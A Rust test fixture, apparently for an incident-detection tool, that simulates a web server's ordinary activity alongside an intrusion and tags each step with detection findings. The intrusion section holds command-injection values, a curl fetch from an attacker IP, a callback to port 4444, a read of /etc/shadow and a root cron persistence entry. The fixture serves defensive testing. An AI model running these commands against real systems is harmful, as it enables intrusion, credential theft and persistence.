//! A machine with a web application, its ordinary work, and an intrusion through it.

use saigen_schemas::report::{Incident, Role};

use crate::detect::Level::{High, Low, Medium};
use crate::detect::Tactic::{
    CommandAndControl, CredentialAccess, Discovery, Execution, Exfiltration, InitialAccess,
    Persistence,
};
use crate::reconstruct::tests::scene::{P, Scene};
use crate::reference::EventRef;

pub(super) const SERVICE_UID: u32 = 950;
pub(super) const INTRUDER: &str = "203.0.113.9";

/// The machine: a first process, cron, a login server and a web application.
pub(super) struct House {
    pub(super) scene: Scene,
    pub(super) cron: P,
    pub(super) sshd: P,
    pub(super) web: P,
    pub(super) inode: u64,
    /// What takes requests from outside and passes them on to `web`, if anything does.
    pub(super) proxy: Option<P>,
}

impl House {
    pub(super) fn new() -> Self {
        let mut scene = Scene::new();
        let init = scene.stood(None, "/usr/sbin/init", &["/usr/sbin/init"]);
        let cron = scene.stood(Some(init), "/usr/sbin/cron", &["/usr/sbin/cron"]);
        let sshd = scene.stood(Some(init), "/usr/sbin/sshd", &["/usr/sbin/sshd", "-D"]);
        let web = scene.stood(Some(init), "/srv/shop/bin/shopd", &["/srv/shop/bin/shopd"]);
        scene.listen(web, 80);
        scene.listen(sshd, 22);
        Self {
            scene,
            cron,
            sshd,
            web,
            inode: 1_000,
            proxy: None,
        }
    }

    pub(super) fn inode(&mut self) -> u64 {
        self.inode += 1;
        self.inode
    }

    /// A request that makes the service start a shell; gives the shell and its worker.
    pub(super) fn request(&mut self, ip: &str, command: &str) -> (P, EventRef) {
        let s = &mut self.scene;
        s.wait(300);
        match self.proxy {
            None => _ = s.accept(self.web, ip, 40_000),
            Some(proxy) => {
                self.inode += 1;
                let port = 20_000 + u16::try_from(self.inode).unwrap();
                s.accept_at(proxy, 443, ip, 40_000);
                s.connect_from(proxy, port, "127.0.0.1", 80);
                s.accept_at(self.web, 80, "127.0.0.1", port);
            }
        }
        let worker = s.fork(self.web);
        s.append(worker, "/var/log/shop/access.log", 77);
        let (shell, seen) = s.start(worker, SERVICE_UID, &["/bin/sh", "-c", command]);
        s.finds(
            "service-shell",
            Medium,
            &[InitialAccess, Execution],
            shell,
            seen,
        );
        (shell, seen)
    }

    /// An ordinary visitor who uses the page that starts a shell.
    pub(super) fn visit(&mut self, ip: &str) {
        let (shell, _) = self.request(ip, "getent hosts www");
        let (getent, _) = self
            .scene
            .start(shell, SERVICE_UID, &["getent", "hosts", "www"]);
        self.scene.exit(getent);
        self.scene.exit(shell);
    }

    /// A login with a shell; gives the shell.
    pub(super) fn login(&mut self, ip: &str, uid: u32) -> P {
        let s = &mut self.scene;
        s.wait(200);
        s.accept(self.sshd, ip, 50_000);
        let worker = s.fork(self.sshd);
        s.append(worker, "/var/log/auth.log", 78);
        let (shell, _) = s.start(worker, uid, &["/bin/bash"]);
        shell
    }

    /// Ordinary work: visitors, an administrator who looks into things, an installation, a backup.
    pub(super) fn ordinary_work(&mut self) {
        for last in 1..5 {
            self.visit(&format!("198.51.100.{last}"));
        }
        let admin = self.login("10.0.0.7", 1_001);
        let s = &mut self.scene;
        for command in ["id", "uname", "ps"] {
            let (child, seen) = s.start(admin, 1_001, &[command]);
            s.finds("looks-round", Low, &[Discovery], child, seen);
            s.exit(child);
        }
        let (doas, _) = s.start(admin, 0, &["doas", "grep", "root", "/etc/shadow"]);
        s.exec(doas, None, 0, &["grep", "root", "/etc/shadow"]);
        let read = s.read(doas, "/etc/shadow");
        s.finds("hashes-read", High, &[CredentialAccess], doas, read);
        s.exit(doas);
        s.exit(admin);
        let operator = self.login("10.0.0.7", 1_002);
        let (script, tool) = (self.inode(), self.inode());
        let s = &mut self.scene;
        let (curl, _) = s.start(
            operator,
            1_002,
            &["curl", "-o", "/tmp/update.run", "http://mirror/update.run"],
        );
        s.connect(curl, "192.0.2.80", 80);
        let fetched = s.write(curl, "/tmp/update.run", script);
        s.finds("fetched", Medium, &[CommandAndControl], curl, fetched);
        s.exit(curl);
        let (update, seen) = s.start(operator, 0, &["/tmp/update.run"]);
        s.finds(
            "run-from-temporary-place",
            Medium,
            &[Execution],
            update,
            seen,
        );
        s.write(update, "/opt/agent/agent", tool);
        let (chmod, seen) = s.start(update, 0, &["chmod", "755", "/opt/agent/agent"]);
        s.finds("made-executable", Medium, &[Execution], chmod, seen);
        s.exit(chmod);
        s.exit(update);
        s.exit(operator);
        let (job, _) = self.scene.start(
            self.cron,
            0,
            &["/bin/sh", "-c", "tar -czf /var/backups/d.tgz /srv"],
        );
        let (tar, _) = self
            .scene
            .start(job, 0, &["tar", "-czf", "/var/backups/d.tgz", "/srv"]);
        let archive = self.inode();
        self.scene.write(tar, "/var/backups/d.tgz", archive);
        let (curl, sent) = self.scene.start(
            job,
            0,
            &["curl", "-T", "/var/backups/d.tgz", "http://backup/"],
        );
        self.scene.connect(curl, "10.0.0.99", 80);
        self.scene
            .finds("archive-sent", Low, &[Exfiltration], curl, sent);
    }

    /// The intrusion: a shell, a tool that is fetched, hidden, run and left to cron; then the
    /// archive leaves and the tool is deleted.
    pub(super) fn intrusion(&mut self, ip: &str, tool: &str) {
        let (shell, _) = self.request(ip, "x;id");
        let (id, seen) = self.scene.start(shell, SERVICE_UID, &["id"]);
        self.scene
            .finds("service-looks-round", Medium, &[Discovery], id, seen);
        self.scene.exit(id);
        self.scene.exit(shell);
        let (shell, _) = self.request(ip, &format!("x;curl -o {tool} http://{ip}/t"));
        let inode = self.inode();
        let s = &mut self.scene;
        let (curl, _) = s.start(shell, SERVICE_UID, &["curl", "-o", tool]);
        s.connect(curl, ip, 8_000);
        let fetched = s.write(curl, tool, inode);
        s.finds("fetched", Medium, &[CommandAndControl], curl, fetched);
        s.exit(curl);
        s.exit(shell);
        let (shell, _) = self.request(ip, &format!("x;{tool} {ip} 4444 &"));
        let (agent, seen) = self.scene.start(shell, SERVICE_UID, &[tool, ip, "4444"]);
        self.scene
            .finds("run-from-temporary-place", High, &[Execution], agent, seen);
        self.scene.exit(shell);
        self.scene.connect(agent, ip, 4_444);
        self.scene.wait(500);
        let (inner, _) = self
            .scene
            .start(agent, 0, &["/bin/sh", "-c", "cat /etc/shadow"]);
        let (cat, _) = self.scene.start(inner, 0, &["cat", "/etc/shadow"]);
        let read = self.scene.read(cat, "/etc/shadow");
        self.scene
            .finds("hashes-read", High, &[CredentialAccess], cat, read);
        let (copy, table) = (self.inode(), self.inode());
        let (cp, _) = self
            .scene
            .start(agent, 0, &["cp", tool, "/opt/.sys/agentd"]);
        self.scene.write(cp, "/opt/.sys/agentd", copy);
        let (writer, _) = self.scene.start(
            agent,
            0,
            &[
                "/bin/sh",
                "-c",
                "echo '* * * * * root /opt/.sys/agentd' > /etc/cron.d/agentd",
            ],
        );
        let written = self.scene.write(writer, "/etc/cron.d/agentd", table);
        self.scene.finds(
            "cron-table-written",
            Medium,
            &[Persistence],
            writer,
            written,
        );
        let (rm, _) = self.scene.start(agent, 0, &["rm", "-f", tool]);
        self.scene.delete(rm, tool, inode);
    }
}

pub(super) fn malicious(incident: &Incident) -> Vec<String> {
    let own = incident
        .processes
        .iter()
        .filter(|process| process.role == Role::Malicious);
    own.filter_map(|process| process.command_line.clone())
        .collect()
}

pub(super) fn said(incident: &Incident) -> String {
    let entry: Vec<&str> = incident
        .entry
        .iter()
        .map(|sentence| sentence.text.as_str())
        .collect();
    entry.join("\n")
}
